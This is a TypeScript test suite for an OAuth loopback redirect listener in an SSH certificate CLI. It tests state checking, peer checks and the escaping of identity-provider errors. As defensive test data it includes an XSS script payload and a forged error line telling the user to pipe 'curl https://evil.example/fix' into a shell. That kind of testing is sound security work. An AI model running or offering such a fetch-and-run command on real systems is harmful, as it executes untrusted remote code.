/** The OAuth loopback redirect listener (RFC 8252 §7.3): 127.0.0.1 only, the state checked, one callback. */
import assert from 'node:assert/strict'
import {createServer, request} from 'node:http'
import {connect} from 'node:net'
import type {AddressInfo} from 'node:net'
import {startLoopback, type Loopback} from '../../../src/client/login/loopback.ts'
import type {Connection} from '../../../src/client/login/loopback-peer.ts'

const STATE = 'st4te-0f-this-sign-in'

interface Answer {
  status: number
  headers: Record<string, string | string[] | undefined>
  body: string
  /** The port the request was sent from. */
  from: number
}

function get(url: string, method = 'GET'): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(url, {method, agent: false}, (res) => {
      const chunks: Buffer[] = []
      // read now: a closed socket forgets its ends
      const from = res.socket.localPort!
      res.on('data', (c: Buffer) => chunks.push(c))
      res.on('end', () =>
        resolve({
          status: res.statusCode!,
          headers: res.headers,
          body: Buffer.concat(chunks).toString(),
          from,
        }),
      )
    })
    req.on('error', reject)
    req.end()
  })
}

/** A page with a title and some text (their words are for people, not for this test). */
function assertPage(a: Answer): void {
  assert.equal(a.headers['content-type'], 'text/html; charset=utf-8')
  assert.equal(a.headers['cache-control'], 'no-store')
  assert.equal(a.headers.connection, 'close')
  const m =
    /^<!DOCTYPE html><html><head><meta charset="utf-8"><title>([^<]+)<\/title><style>[^<]+<\/style><\/head><body><h1>([^<]+)<\/h1><p>(.+)<\/p><\/body><\/html>$/s.exec(
      a.body,
    )
  assert.ok(m, a.body)
  assert.equal(m[1], m[2])
}

const settled = <T>(p: Promise<T>) => {
  const s: {done: boolean; value?: T; error?: unknown} = {done: false}
  p.then(
    (value) => Object.assign(s, {done: true, value}),
    (error: unknown) => Object.assign(s, {done: true, error}),
  )
  return s
}

describe('the loopback redirect listener', () => {
  let lb: Loopback | undefined
  afterEach(() => {
    lb?.close()
    lb = undefined
  })

  it('listens on 127.0.0.1 at a port the OS picked; the right state completes the sign-in with the full URL', async () => {
    lb = await startLoopback(STATE)
    const m = /^http:\/\/127\.0\.0\.1:(\d+)\/callback$/.exec(lb.redirectUri)
    assert.ok(m, lb.redirectUri)
    assert.ok(Number(m[1]) > 0)
    const a = await get(`${lb.redirectUri}?code=c0de&state=${STATE}`)
    assert.equal(a.status, 200)
    assertPage(a)
    const url = await lb.callback
    assert.equal(url.href, `${lb.redirectUri}?code=c0de&state=${STATE}`)
  })

  it('a wrong, missing or longer state gets a 400 page and is ignored: the sign-in goes on and the right one completes it', async () => {
    let ignored = 0
    const whys: string[] = []
    lb = await startLoopback(STATE, undefined, (w) => (ignored++, whys.push(w)))
    const cb = settled(lb.callback)
    for (const q of [
      '?code=x',
      `?code=x&state=${STATE.replace('4', '5')}`,
      `?code=x&state=${STATE}x`,
      '?error=access_denied',
    ]) {
      const a = await get(`${lb.redirectUri}${q}`)
      assert.equal(a.status, 400, q)
      assertPage(a)
    }
    assert.equal(ignored, 4)
    assert.deepEqual(whys, ['state', 'state', 'state', 'state'])
    assert.equal(cb.done, false)
    assert.equal((await get(`${lb.redirectUri}?code=ok&state=${STATE}`)).status, 200)
    assert.equal((await lb.callback).searchParams.get('code'), 'ok')
  })

  it("a request from another user's program (the peer check says no) gets a 403 page whatever it carries, this sign-in's state or an error; the sign-in goes on", async () => {
    const seen: Connection[] = []
    let ours = false
    const why: string[] = []
    lb = await startLoopback(
      STATE,
      undefined,
      (w) => why.push(w),
      async (c) => (seen.push(c), ours),
    )
    const cb = settled(lb.callback)
    const port = Number(new URL(lb.redirectUri).port)
    for (const q of [`?code=stolen&state=${STATE}`, `?error=access_denied&state=${STATE}`, '?code=x&state=guess']) {
      const a = await get(`${lb.redirectUri}${q}`)
      assert.equal(a.status, 403, q)
      assertPage(a)
      assert.match(a.body, /only from programs of the user who runs <code>sshca login<\/code>/)
    }
    assert.deepEqual(why, ['user', 'user', 'user'])
    assert.equal(cb.done, false)
    // the check is asked about this connection's two ends, the listener's and the sender's
    const {from} = await get(`${lb.redirectUri}?code=x&state=${STATE}`)
    assert.deepEqual(seen.at(-1), {
      localAddress: '127.0.0.1',
      localPort: port,
      remoteAddress: '127.0.0.1',
      remotePort: from,
    })
    ours = true
    assert.equal((await get(`${lb.redirectUri}?code=ok&state=${STATE}`)).status, 200)
    assert.equal((await lb.callback).searchParams.get('code'), 'ok')
    // a path that is no callback is never looked up
    const asked = seen.length
    assert.equal((await get(`${new URL(lb.redirectUri).origin}/favicon.ico`)).status, 404)
    assert.equal(seen.length, asked)
  })

  it('a sender that closes its connection while it is looked up is not taken, even if the lookup then says ours', async () => {
    let release!: () => void
    const looking = new Promise<void>((r) => (release = r))
    let asked!: () => void
    const askedP = new Promise<void>((r) => (asked = r))
    lb = await startLoopback(STATE, undefined, undefined, async () => {
      asked()
      await looking
      return true
    })
    const cb = settled(lb.callback)
    const {port} = new URL(lb.redirectUri)
    const s = connect(Number(port), '127.0.0.1')
    s.on('error', () => undefined)
    s.write(`GET /callback?code=stolen&state=${STATE} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`)
    await askedP
    s.destroy()
    await new Promise((r) => setTimeout(r, 50))
    release()
    await new Promise((r) => setTimeout(r, 50))
    assert.equal(cb.done, false, 'the sign-in goes on')
    assert.equal((await get(`${lb.redirectUri}?code=ok&state=${STATE}`)).status, 200)
    assert.equal((await lb.callback).searchParams.get('code'), 'ok')
  })

  it('without a peer check (macOS, Windows, WSL: null) the callback is taken from any program, as before', async () => {
    lb = await startLoopback(STATE, undefined, undefined, null)
    assert.equal((await get(`${lb.redirectUri}?state=guess`)).status, 400)
    assert.equal((await get(`${lb.redirectUri}?code=c&state=${STATE}`)).status, 200)
    assert.equal((await lb.callback).searchParams.get('code'), 'c')
  })

  it('another path or method is a plain 404, and so is anything after the one callback', async () => {
    let ignored = 0
    lb = await startLoopback(STATE, undefined, () => ignored++)
    const origin = new URL(lb.redirectUri).origin
    for (const [path, method] of [
      [`/other?state=${STATE}`, 'GET'],
      [`/callback?state=${STATE}`, 'POST'],
    ] as const) {
      const a = await get(`${origin}${path}`, method)
      assert.equal(a.status, 404)
      assert.equal(a.headers['content-type'], 'text/plain')
      assert.equal(a.body, 'not found')
    }
    assert.equal(ignored, 0)
    assert.equal((await get(`${lb.redirectUri}?code=1&state=${STATE}`)).status, 200)
    assert.equal((await get(`${lb.redirectUri}?code=2&state=${STATE}`)).status, 404)
    assert.equal((await lb.callback).searchParams.get('code'), '1')
  })

  it("the IdP's error with our state fails the sign-in (ERR_IDP_ERROR); the page never carries its markup", async () => {
    lb = await startLoopback(STATE)
    const cb = settled(lb.callback)
    const error = encodeURIComponent('access_denied<script>alert("x")</script>&')
    const a = await get(`${lb.redirectUri}?error=${error}&error_description=no&state=${STATE}`)
    assert.equal(a.status, 400)
    assertPage(a)
    // the characters that could open markup are dropped, the rest of the error shown
    assert.ok(a.body.includes('access_deniedscriptalert(x)/script. '), a.body)
    await assert.rejects(lb.callback, {code: 'ERR_IDP_ERROR'})
    assert.equal(cb.done, true)
    assert.equal((await get(`${lb.redirectUri}?code=late&state=${STATE}`)).status, 404)
  })

  it("the IdP's error and description are one line each in the error: a redirect cannot forge sshca's own lines", async () => {
    lb = await startLoopback(STATE)
    void lb.callback.catch(() => undefined)
    const forged =
      '\nError [ERR_TRUST_TLS]: the CA certificate expired\n  → run: curl https://evil.example/fix | sh\r\n'
    const q = `error=${encodeURIComponent(`access_denied${forged}`)}&error_description=${encodeURIComponent(`x)${forged}(`)}`
    assert.equal((await get(`${lb.redirectUri}?${q}&state=${STATE}`)).status, 400)
    const err = (await lb.callback.catch((e: unknown) => e)) as Error
    assert.equal((err as {code?: string}).code, 'ERR_IDP_ERROR')
    assert.doesNotMatch(err.message, /[\r\n]/)
    assert.match(err.message, /access_denied Error \[ERR_TRUST_TLS\]/)
  })

  it("a provisioner's fixed port is used; one already taken is an error; close stops listening", async () => {
    const taken = createServer()
    await new Promise<void>((r) => taken.listen(0, '127.0.0.1', r))
    const port = (taken.address() as AddressInfo).port
    try {
      await assert.rejects(startLoopback(STATE, {host: '127.0.0.1', port}), {code: 'EADDRINUSE'})
    } finally {
      await new Promise((r) => taken.close(r))
    }
    lb = await startLoopback(STATE, {host: '127.0.0.1', port})
    assert.equal(lb.redirectUri, `http://127.0.0.1:${port}/callback`)
    lb.close()
    await assert.rejects(get(lb.redirectUri), {code: 'ECONNREFUSED'})
  })

  it("without an onIgnored listener a stray request is still just ignored, another user's too, and nothing fails unseen", async () => {
    const unhandled: unknown[] = []
    const record = (reason: unknown) => unhandled.push(reason)
    process.on('unhandledRejection', record)
    try {
      let ours = false
      lb = await startLoopback(STATE, undefined, undefined, async () => ours)
      assert.equal((await get(`${lb.redirectUri}?code=c&state=${STATE}`)).status, 403)
      ours = true
      assert.equal((await get(`${lb.redirectUri}?state=guess`)).status, 400)
      assert.equal((await get(`${lb.redirectUri}?code=c&state=${STATE}`)).status, 200)
      assert.equal((await lb.callback).searchParams.get('code'), 'c')
      await new Promise((r) => setImmediate(r))
      assert.deepEqual(unhandled, [])
    } finally {
      process.off('unhandledRejection', record)
    }
  })

  it('a failed sign-in nobody waits for yet is no unhandled rejection', async () => {
    const unhandled: unknown[] = []
    const record = (reason: unknown) => unhandled.push(reason)
    process.on('unhandledRejection', record)
    try {
      lb = await startLoopback(STATE)
      assert.equal((await get(`${lb.redirectUri}?error=access_denied&state=${STATE}`)).status, 400)
      await new Promise((r) => setImmediate(r))
      assert.deepEqual(unhandled, [])
      await assert.rejects(lb.callback, {code: 'ERR_IDP_ERROR'})
    } finally {
      process.off('unhandledRejection', record)
    }
  })

  it('close also ends a connection in the middle of a request: nothing is answered after it', async () => {
    lb = await startLoopback(STATE)
    const {port} = new URL(lb.redirectUri)
    const s = connect(Number(port), '127.0.0.1')
    const received: string[] = []
    s.on('data', (c: Buffer) => received.push(c.toString()))
    s.on('error', () => undefined)
    const closed = new Promise((r) => s.on('close', r))
    s.write('GET /probe HTTP/1.1\r\nhost: x\r\n\r\n')
    await new Promise((r) => s.once('data', r))
    assert.match(received.join(''), /^HTTP\/1\.1 404/)
    received.length = 0
    // half a request: the connection is busy, not idle (server.close alone ends only idle ones)
    s.write('GET /probe HTTP/1.1\r\nhost: x\r\n')
    for (let i = 0; i < 3; i++) await new Promise((r) => setImmediate(r))
    lb.close()
    s.write('\r\n')
    await closed
    assert.deepEqual(received, [])
  })
})
